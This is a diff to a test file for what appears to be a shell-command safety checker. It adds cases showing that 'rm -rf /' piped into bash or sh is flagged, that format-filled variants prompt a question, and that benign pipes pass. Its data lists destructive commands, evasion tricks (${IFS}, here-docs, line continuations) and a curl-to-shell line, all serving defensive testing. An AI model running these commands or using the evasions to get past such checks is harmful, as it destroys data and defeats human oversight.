@@ -35,6 +35,8 @@ def test_continuations_are_joined_outside_quotes_and_comments() -> None:
         "r\\\nm -rf ~",
         "rm${IFS}-rf${IFS}/",
         "a='rm -rf'; $a /",  # an unquoted variable is split into words
+        "echo rm -rf / | bash",  # known text piped to a shell is judged as shell code
+        "printf 'rm -rf ~' | sh",
         "# harmless \\\nrm -rf /",
         "bash <<EOF\nrm -rf ~\nEOF",
         "ssh localhost <<'EOF'\nrm -rf /\nEOF",
@@ -63,6 +65,8 @@ def test_evasions_of_hardline_commands_stay_hardline(command: str) -> None:
         "fd -e tmp -x rm",
         "curl http://x | ssh host sh",
         "echo 'DELETE FROM t' | docker exec -i db psql",
+        "printf '%s' 'rm -rf /' | sh",  # a format filled in: not worked out, so it asks
+        "cat script.sh | bash",
     ],
 )
 def test_evasions_ask(command: str) -> None:
@@ -84,6 +88,8 @@ def test_evasions_ask(command: str) -> None:
         "yarn add lodash",
         "yarn test",
         "fd -e py -x wc -l",
+        "echo ls | bash",
+        "echo 'print(1)' | python3",
     ],
 )
 def test_look_alikes_pass(command: str) -> None:
